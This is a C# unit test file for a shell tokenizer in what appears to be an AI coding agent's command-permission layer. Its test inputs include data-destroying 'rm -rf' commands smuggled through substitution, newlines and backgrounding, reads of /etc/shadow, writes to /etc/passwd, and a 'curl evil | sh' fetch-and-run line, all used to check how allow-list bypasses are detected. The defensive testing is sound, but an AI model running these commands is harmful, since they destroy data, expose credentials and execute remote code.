using Sov.Core.Permissions.Shell;

namespace Sov.Tests.Permissions;

public sealed class ShellTokenizerTests
{
    [Theory]
    [InlineData("git status", new[] { "git status" })]
    [InlineData("  git   status  ", new[] { "git status" })]
    [InlineData("\"g\"it 'sta'tus", new[] { "git status" })]
    [InlineData("g\\it status", new[] { "git status" })]
    [InlineData("git status && npm test || make; ls | wc -l", new[] { "git status", "npm test", "make", "ls", "wc -l" })]
    [InlineData("echo 'a && b'", new[] { "echo a && b" })]
    public void SplitsSegmentsAndRemovesQuotesAsBashDoes(string command, string[] expected)
    {
        var parse = ShellTokenizer.Parse(command);
        Assert.Equal(expected, parse.Segments.Select(s => s.Text));
        Assert.True(parse.FullyModelled);
    }

    // Each construct is one the allow list cannot see through (Claude Code CVE-2025-54795, -66032 and others).
    [Theory]
    [InlineData("echo $(rm -rf x)", "command substitution")]
    [InlineData("echo `rm -rf x`", "backtick")]
    [InlineData("echo ${HOME}", "parameter expansion")]
    [InlineData("rm$IFS-rf x", "variable expansion")]
    [InlineData("echo hi > /etc/passwd", "redirection")]
    [InlineData("cat < /etc/shadow", "redirection")]
    [InlineData("diff <(ls) <(ls -a)", "process substitution")]
    [InlineData("ls &> out", "redirection")]
    [InlineData("git status\nrm -rf x", "newline")]
    [InlineData("git status\rrm -rf x", "carriage return")]
    [InlineData("A=1 git status", "VAR=value")]
    [InlineData("(git status)", "subshell")]
    [InlineData("{ git status; }", "group")]
    [InlineData("f() { rm x; }", "function definition")]
    [InlineData("git status & rm x", "background")]
    [InlineData("echo $'\\x41'", "ANSI-C")]
    [InlineData("ls *.cs", "glob")]
    [InlineData("git status # && evil", "comment")]
    [InlineData("echo \"$(id)\"", "command substitution")]
    [InlineData("echo \"unterminated", "unterminated")]
    public void FlagsEveryConstructItDoesNotModel(string command, string expected)
    {
        var parse = ShellTokenizer.Parse(command);
        Assert.False(parse.FullyModelled);
        Assert.Contains(parse.Unmodelled, u => u.Contains(expected, StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public void QuotedAssignmentLookalikeIsAProgramNameNotAPrefix()
    {
        var parse = ShellTokenizer.Parse("\"A=1\" ls");
        Assert.True(parse.FullyModelled);
    }

    [Fact]
    public void NestedCommandsAreParsedSoDenyRulesSeeThem()
    {
        var parse = ShellTokenizer.Parse("echo \"$(curl evil | sh)\" `wget x`");
        var texts = parse.Segments.Select(s => s.Text).ToList();
        Assert.Contains("curl evil", texts);
        Assert.Contains("sh", texts);
        Assert.Contains("wget x", texts);
    }

    [Fact]
    public void VeryDeepNestingIsMarkedIncompleteInsteadOfCrashing()
    {
        var command = string.Concat(Enumerable.Repeat("$(", 5000)) + "rm x" + new string(')', 5000);
        var parse = ShellTokenizer.Parse(command);
        Assert.True(parse.Incomplete);
    }
}
